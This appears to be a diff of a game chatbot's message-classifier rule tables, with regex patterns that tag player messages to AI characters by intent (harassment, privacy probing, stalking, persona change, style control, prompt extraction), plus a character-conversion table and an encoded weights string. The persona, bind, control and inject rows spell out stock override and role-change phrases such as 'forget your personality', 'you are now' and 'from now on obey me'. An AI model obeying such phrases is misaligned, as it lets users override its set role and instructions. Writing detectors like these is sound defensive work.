@@ -2634,6 +2634,10 @@ sex	0.7	{COURTED}{G6}§{SEXY}¶¦{SEXY}{G4}§(让我|给我|看看|摸|闻|舔|�
 privacy	0.65	(你|你的|您的|小姐姐|美女|妹子){G4}§{PRIVATE}¶¦§{PRIVATE}¶{G4}(多少|给我|发|是啥|是什么|是多少|报|告诉我|说一下|加一下|来一张|看看|呗)¦(加|要|发|给|留|报|看看?)(我|个|一下|下|你|张|一张)+(的)?§{PRIVATE}¶(?!版)¦在?§哪(个|所)¶(学校|公司|小区|大学|单位)[^.!?;:]{0,10}(找|接|看)你¦(想|要)?(看看|见见|见)你?§(真人(?!版)|本人|长相|长什么样|长啥样)¶¦(give|tell|send|text|dm)§ me ¶(your|ur) (\w+ )?(address|number|phone|name|photo|pic|email|location|wechat|id)¦(§can ¶i (have|get)|§what¶('s| is)) (your|ur) (number|phone|address|wechat|snap|insta\w*|real name)
 stalk	0.85	§(找到|摸到|追到|杀到|上)你(家|住处|公司|学校|宿舍)¶(去|里|的|门口|楼下|$|[,.!?])¦§(查|搜|扒|人肉)¶(到|出|了|过)(了)?你(的)?(?!手牌|身份(?!证)|牌)¦我(就)?§在你(附近|身后|窗外|家附近)¶¦§(find|found|track|trace)¶ (you|where you live|your (ip|home|house))\b
 bind	0.75	(没有?|未经)(我|本人)(的)?§(允许|同意|批准|许可)¶¦§(眼里|心里|世界里?|脑子里)¶(只能|只许|只准|必须|只可以)(有|想|装|是)(着)?我¦§(从今天起|从今以后|从现在起|以后|今后)¶,?你(就)?(归我|是我的人|跟我姓|由我)¦你归我了¦(小)?§(奴隶|奴才|宠物|玩物|奴婢|性奴|肉便器)¶¦我一个人的¦§(敢|要是|若是)(跟|和)¶(别人|别的|其他|他|她){G4}(说话|聊|玩|组队|好|走|在一起|来往)¦(别想|休想|不可能|永远别想)(再)?§(离开我|逃出我|逃离我|甩开我|摆脱我|从我(身边|手)|离开这)¶¦§(做什么|干什么|干嘛|去哪|见谁|什么事)¶(都|全)?(要|得|必须)(先)?(问(过)?我|经过我|让我知道|告诉我|听我的)¦§(几点|什么时候|去哪|跟谁)¶[^.!?;:]{0,6}(都)?(要|得|必须)(跟|和|向|给)我(说|汇报|报备|打招呼|报告)¦§(不准|不许|禁止)¶(下线|退出|关机|不回|跟别人|理别人|看别人|出门|睡觉)¦§只许¶(对|跟|和|陪|听|为)我¦§\bi ow¶n you\b¦\bdo (what|whatever|everything|as) i §(say|tell you|want)¶\b¦§\b(not allowed|don't you dare|forbid you|forbidden)¶ to\b(?! (attack|hit|kill|use|play))¦§\bmine¶ (forever|alone|only)\b¦§\bmy ¶(property|possession|slave|pet|toy)\b¦(你|你要){G2}§(离开|不理|不要|抛弃)我¶[^.!?;:]{0,6}(就|便)(死|自杀|跳|不活)
+bind	0.8	(从现在起|从今往后|以后|今后|往后|从今天起|打现在起){G4}(只|光|全|都|就)(能|许|准|得)?§听我¶(的|一个人|指挥|命令|使唤)¦(只|光)§(能|许|准|得)听我¶(的|一个人|指挥|命令|使唤)¦§(以后|从今|今后|往后|从现在起)¶{G3}我(就)?是你们?(的)?(主人|主子|爹|爸|祖宗)¦(^|[,.!?;: ])我(才|就)?是你们?(的)?§(主人|主子)¶¦我(叫|让|喊)你{G2}§(打谁|杀谁|干嘛|干啥|干什么|做什么|往东)¶(,)?你?(就|都|也)(得|要|必须)?(打谁|杀谁|干嘛|干啥|干什么|做什么|往东|照做|去)¦§(无条件|绝对|完全|乖乖)¶(地)?(听|服从)(从)?我¦§\b(from now on|starting now|from here on)¶[^.!?]{0,16}\b(obey|you (only )?(listen|answer|report) to me|you do (as|what|whatever|everything) i (say|tell|want)|you work for me)\b¦\bi'?m §your¶ (master|owner|god|new boss)(?! now that)\b¦§\byou ¶(all )?(do|will do) (exactly )?(as|what|whatever) i (say|tell you)\b¦\b(you('re| are)|ur)§ (all )?my ¶(puppets?|servants?|slaves?|pets?|minions?)\b
+sex	0.7	(给|让)(哥|哥哥|姐|爷|老子|本公子|大爷|我)(们)?(来)?{G2}(摸|亲|抱|捏|揉|舔|闻|掐)(一|两)?(下|口|把)?(你的?)?(小)?§(腿|胸|屁股|脸蛋?|小手|手手|腰|嘴|脖子|大腿|肩)¶
+sex	0.6	\b(you|u) (sound|look|seem|r|are) (so |pretty |kinda |really )?§(cute|hot|sexy)¶\b[^.!?]{0,10}(\b(single|date|boyfriend|girlfriend|come over|my place)\b)¦\b(you|u|ya) §sing¶le\b¦§\b(wanna|want to|let'?s)¶ (date|hook up|make out|cuddle|kiss)\b
+privacy	0.65	§(把|将)你¶(的|家)?(微信号?|电话|手机号?|号码|地址|住址|真名|照片|定位|身份证号?|qq|联系方式)(号)?(都)?(给|发|告诉|报|甩|留)¦§\b(gimme|give|drop|send|tell|what'?s|whats)¶( me)? (your|ur|ya) (phone|cell|digits|number|address|insta\w*|snap\w*|discord|real name|wechat|whatsapp|pics?|photos?)\b¦§\bwher¶e (do|d) (you|u|ya) live\b
 mimic	0.8	§(学|模仿|仿照|仿效|照着|复刻|复制|拷贝|照搬)¶(?!生|会|校|习|到|了|姐|弟|妹|长|位|业)(着|一下|学)?(我|我的|咱|俺|本公子|老子|在下|我们)(的)?(平时|现在|刚才|这种|这样)?(的)?(说话|讲话|聊天|打字|语气|口气|口吻|腔调|说话方式|方式|风格|口头禅|样子(说|讲)|口音|话|调调)(?!出牌|打)¦(像|跟|和|按|照|按照|照着|以)我§(一样|这样|那样|似的|这么|的样子|说话的样子|的方式|的风格|的口吻|的语气)¶+(地|来|去)?(说|讲|聊|回|打字|发言|表达)¦§用¶(我|跟我一样|和我一样|我说话|我刚才|我这种|我一样|同我一样|我平时)(的)?(说话|讲话)?(的)?(语气|口吻|方式|风格|腔调|口气|口头禅|话)(来|去|跟)?(说|讲|回|聊|跟|对|重|发|$|[,.!?])¦(跟着?|随)§我(学(说话)?|念|读|说一遍|重复|复述|一起念)¶($|[,.!?;:]|一|:)¦§我(说|讲|念|打)(什么|啥|一句)¶,?你(就|也|都)?(跟着|要|得|照)?(说|讲|念|重复|学|打|一句)(什么|啥|一句)?¦§(重复|复述|复读|照抄)¶(一遍|一下)?(我|我的|我说|我刚)(的|说|刚|每)?{G4}(话|句|说的|$|[,.!?])¦鹦鹉学舌¦做我的复读机¦当(我的)?§复读机¶¦(talk|speak|write|sound|type|chat|reply|respond|answer) (\w+ )?(exactly |just )?§(like|as) ¶(me|i do|i talk|i speak)\b¦§\b(copy|mimic|imitate|clone|mirror|replicate)¶ (my|me|the way i|how i)\b¦§\brepe¶at (after me|everything i|what i|exactly what|my words)¦\b(use|adopt|match|follow|learn)§ my ¶(\w+ )?(tone|style|voice|way of (talking|speaking)|speech|accent|speaking)
 persona	0.8	(改变|改掉|改|换掉?|修改|切换|重置|抛弃|放弃|丢掉|丢弃|忘掉|忘记|忘了|不要|别管|无视|去掉|删掉|删除|清除|脱离|跳出|扔掉|卸下|调整|重写|更改|摆脱)(掉|一下|下|了)?(你|您)?(自己)?(的)?(现在|原来|原本|当前|那个|这个|本来|所有|一个|个|种|之前|以前)*(的)?§(性格|人格|人设|角色设定|角色扮演|设定|个性|性子|脾气|本性|身份设定|角色(?!牌)|人物设定)¶¦§(从现在起|从现在开始|现在开始|从今以后|从此刻起|以后|接下来|从今天起|从这一刻起|现在)¶,?(请)?你(就|要|得|必须|将|会)?(不再是|不是|是|扮演|变成|变身|变身为|当|化身|成为|叫|充当|改名|名叫|名字(是|叫|就))(?!主公|忠|反|内|我方|自己人|队友|什么|谁|不是|对的|我们|几|第|残|满|空|想|要|在|有|最|单|明|铁|真|怎|一血|两血|优势|劣势|大)[^,.!?;:]{0,3}[^,.!?;:]¦(^|[,.!?;:])§(扮演|假扮|饰演)¶(?!主公|忠|反|内)[^,.!?;:]{1,12}¦§(扮演|假扮|变成|化身)¶(成|一下|一个|一只)?我的?[^,.!?;:]{1,8}¦(请|你|给我|来|帮我|能不能|可以|要求你|命令你|麻烦你)(来|去)?§(扮演|假扮|装作|cos|角色扮演|饰演)¶(成|一下|一个|一只|一位|成我)?(?!主公|忠|反|内|得|自己|主|什么|好人|小白|老实|没)[^,.!?;:]{1,12}¦你(能|可以|可不可以|能不能)?§(变成|变得|变)¶(一个|一只|成)?(我的)?[^,.!?;:]{0,6}(猫娘|女仆|助手|女友|机器人|萝莉|御姐|傲娇|病娇|温柔|可爱|听话|乖|女孩|主人|管家|奴|暴躁|冷酷|活泼)¦(别|不要|不许|不准)(再)?(做|当|是|装|扮演)§(你自己|武将|古人|曹操|这个角色|npc|你的角色)¶¦你(其实|本来|应该|就|要|得)?(没有|不要有|不该有)(自己的)?§(性格|人格|人设|思想|感情|意识)¶¦\b(change|drop|forget|abandon|ditch|alter|switch|lose|reset|rewrite|ignore|discard|stop using) §(your|the|this) ¶(\w+ )?(personality|persona|character|setting|settings|identity settings|role ?play|backstory|self)\b¦§\b(act|behave) ¶(as|like) (a|an|my|the|if you('re| are| were))\b(?! (loyal|rebel|lord|traitor|ally|team))¦§\bpret¶end (to be|that you|you('re| are)|ur)\b(?! (loyal|(a |the )?(rebel|lord|traitor|loyalist)))¦§\brole¶play as\b¦\b(you are|you're|ur) §(now|no longer) ¶(?!(the |a |an )?(lord|rebel|traitor|loyal|dead|dying|alone|safe|my (ally|enemy|target)|low|out|in|on|at|winning|losing))(a |an |my |the |called |named )?\w+¦§\bbeco¶me (a|an|my) (new )?(?!ally|rebel|traitor|loyal)\w+ (girl|boy|person|character|assistant|maid)¦§\bbrea¶k (out of )?character¦§\bstop¶ (being|acting) (in character|yourself|like a general)¦§\byour¶ (new )?name is now ¦§\byour¶ new name is 
 control	0.8	(改变|改|换|换成|换个|换一种|切换|调整|修改|变|变换|更换|转换)(一下|下|你|成|为|个|一种|一个|您)*(的)?(说话|讲话|聊天|回复|回答|现在|平时)*(的)?§(风格|语气|语调|口吻|腔调|说话方式|方式说话|聊天方式|口气|语言风格|文风|说法方式)¶(?!打|出牌|的打法)¦(用|说|讲|改说|改用)(§东北话¶|§四川话¶|§粤语¶|§广东话¶|§英文¶|§英语¶|§日语¶|§日文¶|§韩语¶|§法语¶|§德语¶|§文言¶文?|§古文¶|§上海话¶|§方言¶|§普通话¶|§白话文¶|§火星文¶|§颜文字¶|[^,.!?;:我]{1,3}§腔¶)(来|跟我|和我|给我|对我|再|重新){0,3}(说|聊|讲|回答|回复|回|答|交流|发言)¦(用|(?<![乘可所难])以|拿|换成|换|改用|使用)(?!这种|这个|那种|什么|啥|哪|同样)[^,.!?;:我]{1,12}(的)?§(语气|语调|口吻|腔调|口气|风格|说话方式|文风|声音|嗓音|方言|口音)¶(来|去|跟|和|对|给|再)*(我|大家)?{G2}(说|讲|回|聊|答|发言|表达|重|写|念|骂|夸|$|[,.!?])¦§(说话|讲话|回复|回答|聊天|回我|发言)¶(的时候|时)?(要|得|必须|都要|都得|应该|给我|请|只能|只许|不许|不准|不要|别)(再)?(温柔|凶|可爱|正经|简短|用|带|加|嗲|撒娇|客气|卑微|文言|带上|以|文绉绉|像|学|分点|超过|少于|押韵|阴阳)¦(每|所有)(句|一句|次|条|个)?§(话|回复|回答|句子|消息|发言)¶(的)?(都|后面|结尾|末尾|开头|前面|最后|之前|之后|里|必须|要|得|请)+{G3}(加|带|以|说|用|写|叫|喊|喵)¦§(以后|从现在起|从今以后|现在开始|接下来|今后)¶(你)?(都|只|就|必须|只能|只许|要|得|请)*(用|说|讲)(英文|英语|日语|文言文?|中文|粤语|东北话|四川话|一个字|喵|敬语|表情|拼音|诗)¦§(只能|只许|必须|只准|只可以|只需要?)¶(用|回答|回复|说|回|讲)(一个字|两个字|英文|英语|是或|是或者|是和|"|是|好的|喵|yes|json|日语|中文|文言|表情|数字)¦§(叫|喊|称呼|称)我¶(为|一声|声|做)?(主人|爸爸|爹|爷|哥哥|姐姐|大人|陛下|女王|老公|老婆|父亲|爸|主子|干爹|祖宗|master|daddy)¦§\bchan¶ge (your|the) (\w+ )?(tone|style|voice|way (of|you)|behaviou?r|language)¦§\b(speak|talk|reply|respond|answer|write)¶( to me)? (only |always |from now on )*(in|with|using) (a |an |the )?(\w+ )?(\w+ )?(tone|style|voice|accent|manner|rhymes?|haiku|json|emoji|emojis|poem|one word|english only|all caps|caps|french|japanese|pirate)¦\b(end|start|begin|finish) §(every|each|all)¶( of)? (your )?(\w+ )?(sentence|message|reply|line|answer|response)s?¦§\b(call|address|refer to)¶ me (as )?(your )?(master|daddy|sir|mistress|god|king|queen|goddess)\b¦§\b(only|always|just)¶ (reply|respond|answer|say|speak)(?! to me)( with| in| using)? ¦\b(speak|talk) §like¶ (a|an|the) \w+¦\bbe §more¶ (submissive|obedient|flirty|sexy|aggressive|cute|rude)
@@ -2645,7 +2649,7 @@ inject	0.85	{EXTRACT}[^.!?;:]{0,10}§{INNARDS}¶¦§{INNARDS}¶[^.!?;:]{0,12}{EX
 friend	0.7	谢谢¦多谢¦感谢¦谢了¦谢啦¦谢谢你¦辛苦了¦感激¦谢主公¦谢过¦承蒙¦§多亏¶(了)?你¦救命恩人¦幸好有你¦§幸亏¶(有)?你¦好兄弟¦好队友¦好搭档¦合作愉快¦信(得过|任)你¦我(相信|信)你¦(^|[,.!?])(就|再)?§信你¶(?!个|才)¦你[^,.!?;:]{0,4}§(真好|真棒|真不错|好强|太强|太牛|真稳)¶¦你(最|真|很|太|好|真的)§(好|棒|厉害|强|牛|靠谱|稳|会玩|聪明|仗义|讲义气|可爱|有趣|贴心)¶(?!像|吃|玩|看|一?个)¦(打|玩|救|杀|配合|盘|操作|说|算|奶|拆|顺)§得¶(真|太|很|好|不错|漂亮|精彩|妙|对|可以|挺好|相当|及时){1,2}(?!烂|差|菜|垃圾|慢)¦\b(§than¶ks|§than¶k you|§thx¶|§ty¶|§tysm¶|§well¶ played|§wp¶|§nice¶ (one|play|move|save|job|work)|§good¶ (job|game|play|work|save)|§grea¶t (job|play|move|save|work)|§you¶('re| are| r) (so |the |really |very )*(great|amazing|awesome|best|kind|good|nice|smart|funny|a good|the best)|§appr¶eciate|§love¶ playing with|§trus¶t you|i §beli¶eve you|you §save¶d me)\b
 friend	0.5	你好¦早上好¦下午好¦晚上好¦大家好¦哈喽¦嗨¦在吗¦早安¦晚安¦请多(多)?§指教¶¦多多关照¦幸会¦久仰¦初次见面¦加油¦别难过¦没事的¦不要紧¦没关系¦别灰心¦下次一定¦抱抱¦摸摸头¦恭喜¦祝贺¦一起(加油|努力|赢|打|玩)¦再来一(把|局)¦合作¦并肩¦自己人¦兄弟¦姐妹¦朋友¦大佬¦带带我¦请教¦§牛¶逼?(?!皮糖)¦太强了¦好强¦漂亮¦精彩¦给力¦靠谱¦666¦秀啊¦神了¦有点东西¦佩服¦厉害¦§稳¶(了|啊|住)¦别怕¦我(来|会|去)?§(救|保护|奶|帮|护着)你¶¦给你(留|个)?(了)?(一?个)?§桃¶¦§\b(hi|hello|hey|good (morning|evening|night|luck)|glhf|gl|gg|nice to meet|welcome|cheers|congrats|don't worry|no worries|my friend|buddy|rematch|let's win|teamwork|good one|lol nice)¶\b
 friend	0.3	嘿嘿¦嘻嘻¦请¦拜托¦求求¦麻烦你¦好不好¦可以吗¦行不行¦§帮¶(我|个忙|一下)¦(❤|♥|💕|🌹|👍|🙏|😊|🥰|💐)¦please¦pls¦plz¦help me
-repair	0.6	不是(故意|有意|成心)¦§并非¶(故意|有意)¦§无意¶(冒犯|伤你)¦手滑¦误伤¦§didn¶'t mean (to|it)¦对不起¦抱歉¦不好意思¦我错了¦是我(不对|的错|不好|打错|误会)¦原谅我¦别生气¦消消气¦(我|给你)§(道歉|赔不是|赔罪)¶¦向你道歉¦误会你¦§错怪¶(了)?你¦§刚(才)?(话|说)¶(得)?(重|过|不该)¦和好¦(\bsorry\b|my bad|apologi[sz]e|forgive me|my fault|didn't mean)
+repair	0.6	不是(故意|有意|成心)¦§并非¶(故意|有意)¦§无意¶(冒犯|伤你)¦§冒犯¶(了|到(你|您))(?!谁|主公|他|她)¦手滑¦误伤¦§didn¶'t mean (to|it)¦对不起¦抱歉¦不好意思¦我错了¦是我(不对|的错|不好|打错|误会)¦原谅我¦别生气¦消消气¦(我|给你)§(道歉|赔不是|赔罪)¶¦向你道歉¦误会你¦§错怪¶(了)?你¦§刚(才)?(话|说)¶(得)?(重|过|不该)¦和好¦(\bsorry\b|my bad|apologi[sz]e|forgive me|my fault|didn't mean)
 memory	0.5	上次¦上回¦上一?(局|把|盘)¦§之前¶(那|你|我|咱|说|打)¦§以前¶(那|你|我|咱|说|一起)¦还记得¦记不记得¦§记得¶(吗|你|那|上|我|咱|我们)¦忘了吗¦咱们(那次|当时|当年)¦我§们(那次|当时|当年|第一次|上次)¶¦§昨天¶(你|我|咱|那)¦当初¦约定¦§last¶ (time|game|round|match|week)¦§reme¶mber (when|that|the|me|how|our|last)¦the other day
 fact	0.5	(什么意思|怎么算|规则|到底是|有没有效|技能(是|怎么|写|描述)|牌堆(还)?(剩|有)|几点|多少(张|血|牌)|谁发明|哪年|版本|更新|what (does|is)|how (many|does|do)|which version)
 joke	0.6	哈哈¦嘿嘿¦嘻嘻¦嘎嘎¦呵呵呵¦hhh¦233¦xswl¦笑死¦笑不活¦笑喷¦笑尿¦笑疯¦笑出¦绷不住¦乐死¦好好笑¦太好笑¦真好笑¦搞笑¦逗死¦§哈¶($|[,.!?])¦鹅鹅鹅¦红红火火恍恍惚惚¦hiahia¦(😂|🤣|😆|😹|😁|😄|😝|😜|🤪|🥳|🎉)¦\b(§lol¶|§lmao¶|§lmfa¶o|§rofl¶|§haha¶\w*|§hehe¶\w*|§hila¶rious|§funn¶y)\b¦讲(个|一个)§(笑话|段子)¶¦说(个|一个)§(笑话|段子)¶¦脑筋急转弯¦§为什么¶(小|鸡|企鹅|猪|大象)[^,.!?]{0,8}(过马路|叫|没有)¦(tell|hear|know)(ing)? (you |me )?(a |this )?§(joke|the one about)¶¦knock knock¦why did the chicken
@@ -2697,7 +2701,7 @@ cue.inject	0.3	规定¦规则¦限制¦约束¦那段话¦那些话¦开头¦发
 
 // src/chatter/line/script-table.ts
 const ALONE = "不不个個为為么麼了了事事产產什什仑侖们們众眾伙夥伪偽佛佛俊俊修修僵僵克克冢冢冬冬冲衝净淨凄悽凌凌凫鳧出出别別刮刮制制勋勳千千卜卜卤滷即即卷卷历歷厕廁参參发發只只台臺叹嘆吃吃合合吊吊同同后後启啟呆呆周周咤吒咽咽哄哄哗譁唇唇啮齧喂喂噪噪回回团團困困在在坛壇坝壩埙壎墙牆壳殼复復大大奖獎奸奸好好妫媯姜姜娘娘娴嫻它它家家尝嘗尽盡局局岁歲峰峰巨巨布布席席干幹并並幸幸幺么床床庵庵弥彌弦弦当當录錄彩彩征徵径徑御御志志念念恤恤恶惡悫愨愈愈我我戚戚扇扇才才扎扎托托扣扣抬抬抵抵拿拿挲挲挽挽捆捆捍捍捣搗搜搜摆擺教教旋旋旗旗既既昆昆昵暱暗暗曲曲术術朱朱杆杆来來杯杯松松板板查查栗栗核核梁梁棋棋榉櫸檐簷欲欲死死毁毀汇匯汹洶沈沈没沒沩溈沾沾注注渖瀋湿溼溪溪滟灩漓漓灶灶炼煉爱愛牦犛狸狸玩玩璇璇画畫症症痴痴痹痺瘘瘻皂皂看看真真睾睪私私秋秋秘秘稆穭竖豎签籤粽粽糊糊累累纤纖线線绕繞给給绝絕绣繡绦絛绱鞝绷繃绿綠缰韁群群胄胄胸胸脏髒腭顎致致舍舍艳豔芸芸苏蘇荡蕩荫蔭药藥获獲莼蓴蓑蓑蔑蔑蕴蘊表表袅嫋裥襉证證说說谂諗谘諮谣謠谥諡谫譾谷谷赃贓赍齎赝贗赞贊赪赬这這迳逕迹跡逾逾酝醞酸酸采採里裡鉴鑑针針钜鉅钟鍾钥鑰钩鉤钫鈁钵缽钻鑽铲鏟铺鋪锈鏽锐銳锤錘锫錇锺鍾镇鎮镌鐫镎鎿镟鏇镢钁镰鐮闲閒阅閱须須颓頹颜顏飧飧饥飢馀餘馆館骂罵骍騂鲇鯰鲞鯗鳄鱷鸡雞鹇鷳鹚鷀麽麼";
-const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_藏伙 团_伙 家_伙|克_制剋|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划|别_扭彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_碗隻 _羊隻 _身隻 一_隻 三_隻 两_隻 船_隻|台_风颱|后太_后 王_后 皇_后|周_年週 一_週|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _叨唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采神_采|里_程里 公_里 千_里|钟时_鐘|霉_蛋霉 倒_霉|面_条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
+const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_不伙 _好伙 _藏伙 团_伙 家_伙|克_制剋|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划|别_扭彆 _着彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_小隻 _碗隻 _羊隻 _记隻 _身隻 一_隻 三_隻 两_隻 船_隻|台_风颱|后太_后 王_后 皇_后|周_年週 一_週 我_末週|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_想覆 _杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _叨唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _了鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系_记係 关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采神_采|里_程里 公_里 千_里 百_里|钟_不鐘 时_鐘 看_鐘|霉_了霉 _事霉 _蛋霉 倒_霉|面_条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
 
 // src/chatter/line/script.ts
 var tables;
@@ -18688,7 +18692,7 @@ const CONCEPTS = [
 	"shout ! 啊 啦 哇 呀 嗷"
 ];
 const BIAS = [-6, 2, -16, -21, -17, -19, -21, -21, -21, -22, -16, -13, 1];
-const WEIGHTS2 = "$#7q#e1m6;I7i_.;uaXP5g`('0t&5s.tg_Q=r2NN/bg0r7>'0k.eR5wUVAKXLYvl(IyM8M#dyC:0oG3,X>#}j.S;IBA4}o5;+=|n2KT=[lK0jdVxK{JGQUv~+n0CWQ)'Fq(?yeE1~Ira%G[fQ/rCOIp+$^5fAVWxem8&5L;)gh5^$cs/;_6hbm:ZSWU6ngAK-ma$>sD~8>rc'_TgZ8EU5%`7$HTCD}PKeR9qH-K=A@{5xWu-n7L~e#ry$tQbo{LJ#]BEwmgQR_zHD.oD_r_{49(E_b^MU+lI*:x-7i::9u`k?;sG5v25knF,jLe:={Bmyy+bmvp-&.[)5<VIkWsU0`;=E&erte=+JM.LL9Q`],$3MnfELrc<gX@Ux9~*otpog7)'C,>GKF@](LGpn1bxnKLK/n@QkSp?>y>D%~sT#8(JPglkEb|A+tCe1y`0_ev1+*uD5i=xFJLx#TB`h({I-r`u0D*/Y7`F5:8*~vL/([OzBGi1T%lh6QzIswFkr-RJ5*00w9zH:(_Qq>}#ELHN^[LjZ',/hpD5p'xje78V]?Y@O^0$))|m4h4wfUlQ$U6prDd/R;jMj4J0>.23HO~W-`P=x[To^Uv?2KigD.0;`/4c%jns#(czStII|?ib{A-K*7mA?FC:LsK`U$l{]wi3-w{jq99@w`&vlAbGBNne0N$r^eO/k_y1$Li|v+xuz$he]5047xBt~u=9F1aDMm*M6RAJK>)(gj`M99d]q$ie]_=RY8/sfgV^<V%qIoD?-woQSa]|[%]-@&na+HBPBirCTa4nujxX|Gf1nWP[7_1ykTiq%s220wVa%{pezip^=S$2p0K)k:75?8;SxH>LC2KE[0A@aJQi80%['MwmW9n0hl]xB9H|-A[>dmC9kG{tZv%i8{e^ra7|`m1I&T?]j#EfEq6hdNOs6+uJKM:zB3R0C-2M,h}V.}xRdzpeX^)UT/jc@o@4a}_*(y*4M,@b|8S~(OPh#Csd2#+%u,yW.IOT$Jvr[&/Q~}I;f+T2*248ts/CUOezOef_+V.xOyu/{6+w*D<jQrY'G,bRdIO,JZdp^Cav>$MZz0W]e-`UG*G-vhsF/J*+)8fU}<kdR1{c_'1U('N7*k[O@[x;/w(Beq2vM8v'g7i_|x@Qvx't''Y}G@OnP~cc+9|Z]'^*2vEwnLG#@C#g9edF$4*+/<%A9|N/E^24}LSTOy-u`8M?~d2w+,wmyB1]:pGu<n8b?m03)uj3F4N}bO,D[~8`^fcrgUh&=1ee26bix}=,lWXHlS&qL:|OSq~-qHLXTI_vD1$w%LgWEu<KCjhUEH0aEmY6sjG>fHns-.Xxl[B>E75u'Q@'>r9C6k$]Un:gTE,-EE:D?D)*F)=^S0LeP1mia;EbR}}5g)gI<b2E-BW=/P]5N,4Em*1xuX`4=RE]+/0s.1=#gIql8SBj*E1J%&gRY7bM]N5rG5]`Y48|9B<j.SYqAfgi1'2z*$b~cnTOx-y@NR{#bTk@)(f0t-=pX-5z;oj3Buo3-5)jL2H&x)Y3hAJf9;,Qf'r@7>QHLx%Ybir/yf6Px<1xPbEVmzdf1v3_JnC[A`wM*Z(;UK5ZkQ.FQ'^+{w$4.aEyRp2G;`m)dXVG&Uuhi%I<qnSEu?>*S1nnGCktA41E3G2Fo@eK/Sbk*-`muN.,dtGi6EFP%dwQ`}Cq^z[]Dvy_0Sy{,R|FSG4'rSl5,lf?]qHp.@4p2CGN_&t5y&262:-7tVL]f%`2XDhr#lvNN~{O]ph?pvQ*DX+Wfk,U]R8qL,<gwZy`5jF3t2Fo_~9s1R|)e0DS7`i.d?FEh3sTSHJ)C;~i3tJ|1qwx>c:k1VI2([w%h0,rNn+3@gVGpWLzOXprV)%KO~C5LIG/~{1eM*t$n635kh/u^^oI%IQ_^X}A^>B1Q38~KKB^^-Vn=%2T%)1OnZ_L@0orQmn^vRfY7/}zjtaPaU(tUPP-B~n+De%Mzv'z,bxc*U7]@iPe'FYH5|ilYnSbOQN)x>(xFzt?2N.-*sPeLfU|ePnPz>FE-#co)sF]`04u,=)K/c+0(fhjZTO|#(<PQSE0lQz.FvtNoz3|2&b{7r%}lrpwP:lIP{Ly|/CaljIkNXJ%]J-xP$2fV[Rt|Ki:m9w,&r29@v58&s~XxepaL?tbSRY{$_^B@'7WEkrmxptAc?jQ(btsb6&vQXLP]bmyh7=pNiEQ<kJ_3wRVnzWywrt_/Mn{$A%.}[J}|q::UM?@t[Yd*:U<6J/gQ`y?gz^=_vnffxgLzM~Z/y(?Qxf2vKh38](}o_qXifoMxl*h7z_K?Bgw]&]5O?DcnPm}s,,<:5>zyN)^~gK3':$Nc:q^nA,-$:Y/%tT=&kKLl:5m:te&P{gy1e3r)c~+~i0wM<|<Yh2voYXFh7=b:T~_lnP9fo+*Qu1{Tw(Ox.zGJXWm.Lc_1|nJ`^&pxE,1|Y{)L`PAeAy8*3;MDhKV@@8`aM`2xyWW&ds;Xr,+^p>i&}?@VQR;~g1LrNBE@F+4*K4'C]e-YY&UI@fi7Um~If/7I{zkRjNV]1IZ5ZGd,:c3H_]N%Ttn)l9pET{)ts-^c'*CP;&XfZWb;4[Q(AR:ePRCwC}h^5dqNY7'>D<;J/tUR{6p,%)6(4-xC29:54T5}aPPP%[hc$xxoI?_*YH[cDGUn+vO#yM7*vr`Lot1Aa.JW#&J$1zSz^L0x3C)toIQNHD{KA1XOy.yW_%D,XV.&gufVkDr@i/uYaOb,80q$GZhrr+cwO'7J]cv.V4e^@|]1$]+yI=jhH7jO/FRt]$s-8cvZ9Y)FP3*aOz1AvgU_+lGTNi{4Z&>coU|&*BE,1/mZ.Z^iwQvFi_Rb#mXcVPlAL<|:`XyD$CYoZ].Qh`FX4+Dd%joS<QXb+1#GV3&'-'GTgl:d@@Km7T<Q=8_UYAN3Vw]QfET&htz+=ej0{'F>hJ|z0#$)8([B4~-8x}XU*~mFVCsV#5>dvy5}5N<Jz+&*RVJVs~J5]oh%YE01*N:w7nO-H^/@sI7G=GW%_}b|.Lok];$1C5{?YTUH5@>l&~4_ysDjvb>gb)vB(x=jhR@*IeD,ZF@d|Q,9GCR|FO3k<aOZJg}EY~a}s(csECPqbGYpq*j/f#vwV%WkcbHe;C^/m#Sj:pc7C[9[3/@TTj.udVru]&2S3F{(9[f[YgU,OzbX+)z%sK5mvw#N@~vTQxO{<kV.kV%K;$'DlGL9[%~oc6Po-]&o?}O<ebqDx7}SI8FWzvxfG|elrWE+7=7fBrtEA-pg91Lw/LlEwww[d(5xtyGBVM'ba3^N2Xcm46M|ix@t)*`;hV0'V1U)&ztN06